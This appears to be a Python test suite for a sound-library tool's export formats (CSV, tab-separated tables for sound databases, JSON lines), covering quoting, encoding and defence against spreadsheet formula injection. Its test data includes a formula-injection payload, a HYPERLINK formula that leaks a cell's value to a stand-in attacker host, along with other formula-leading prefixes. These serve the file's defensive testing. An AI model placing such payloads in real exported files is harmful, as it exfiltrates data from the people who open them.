"""Forms of exports: what a spreadsheet must not calculate, quoting, columns, encodings."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from earmark.exchange.exports.cells import neutralise, one_line, restore
from earmark.exchange.exports.formats import (
    BASEHEAD_COLUMNS,
    BYTE_ORDER_MARK,
    CSV_COLUMNS,
    FORMATS,
    SOUNDMINER_COLUMNS,
)
from earmark.exchange.exports.values import ExportedFile, ExportedTag

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1)',
    "+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1",
    '"=1',
    "＝1",
]


def file(**values: object) -> ExportedFile:
    plain: dict[str, object] = {
        "id": 7,
        "library": "Foley",
        "root": "/sounds",
        "path": "Dogs/Track 18.wav",
        "audio_hash": "",
        "container": "wav",
        "codec": "pcm_s16le",
        "duration": 1.25,
        "sample_rate": 48000,
        "channels": 2,
        "catid": "ANMLDog",
        "category": "ANIMALS",
        "subcategory": "DOG",
        "description": "Bark",
        "keywords": ("Bark", "Dog"),
        "tags": (
            ExportedTag("Bark", 0.912, "accept", "classifier", "Bark", True),
            ExportedTag("Hound", None, "accept", "synonym", "", False),
            ExportedTag("Wolf", 0.3, "review", "classifier", "Wolf", True),
        ),
    }
    return ExportedFile(**(plain | values))  # type: ignore[arg-type]


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), strict=True))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_calculate_gets_an_apostrophe(text: str):
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@given(st.text())
def test_every_cell_can_be_turned_back(text: str):
    assert restore(neutralise(text)) == text


def test_ordinary_words_stay_as_they_are():
    for text in ("Dog", "a = b", "10-4", "", "Ça va", "50 % wet"):
        assert neutralise(text) == text


def test_a_csv_says_what_each_column_holds_and_is_utf_8_for_spreadsheets_too():
    form = FORMATS["csv"]

    data = form.heading + form.encode([file(description='Größe, "wet"\nand dry')])

    assert data.startswith(BYTE_ORDER_MARK)
    assert "charset=utf-8" in form.media_type
    heading, row = read_csv(data)
    assert heading == list(CSV_COLUMNS)
    values = dict(zip(heading, row, strict=True))
    assert values["description"] == 'Größe, "wet"\nand dry'
    assert values["tags"] == "Bark 0.91; Hound"
    assert values["review"] == "Wolf 0.30"
    assert values["duration"] == "1.25"
    assert values["keywords"] == "Bark; Dog"


@pytest.mark.parametrize("name", ["csv", "soundminer", "basehead"])
@pytest.mark.parametrize("text", FORMULAS)
def test_no_table_holds_a_cell_that_begins_a_formula(name: str, text: str):
    hostile = file(
        path=text, library=text, description=text, keywords=(text,), catid=text, category=text
    )

    data = FORMATS[name].encode([hostile]).decode("utf-8")

    rows = (
        read_csv(data.encode())
        if name == "csv"
        else [line.split("\t") for line in data.split("\r\n")[:-1]]
    )
    assert len(rows) == 1
    for cell in rows[0]:
        assert not cell.lstrip().startswith(("=", "+", "-", "@", '"', "＝", "\t", "\r"))


@pytest.mark.parametrize(
    ("name", "columns"), [("soundminer", SOUNDMINER_COLUMNS), ("basehead", BASEHEAD_COLUMNS)]
)
def test_tables_for_sound_databases_keep_a_file_on_one_line(name: str, columns: dict[str, object]):
    form = FORMATS[name]

    data = form.heading + form.encode([file(description='a\tb\r\nc "d"', keywords=("x\ty",))])

    heading, row, end = data.decode("utf-8").split("\r\n")
    assert end == ""
    assert heading.split("\t") == list(columns)
    values = row.split("\t")
    assert values[:3] == ["Track 18.wav", "/sounds/Dogs/Track 18.wav", 'a b c "d"']
    assert values[3:] == ["x y", "ANIMALS", "DOG", "ANMLDog", "ANIMALS-DOG", "Foley"]


@given(st.text())
def test_one_line_is_one_line(text: str):
    assert len(one_line(f"a{text}b").splitlines()) == 1
    assert "\t" not in one_line(text)


def test_json_lines_hold_everything():
    data = FORMATS["jsonl"].encode([file(), file(id=8, duration=None)])

    first, second = map(json.loads, data.decode("utf-8").splitlines())
    assert first["tags"][2] == {
        "name": "Wolf",
        "confidence": 0.3,
        "decision": "review",
        "origin": "classifier",
        "label": "Wolf",
        "names_the_sound": True,
    }
    assert first["keywords"] == ["Bark", "Dog"]
    assert (second["id"], second["duration"]) == (8, None)
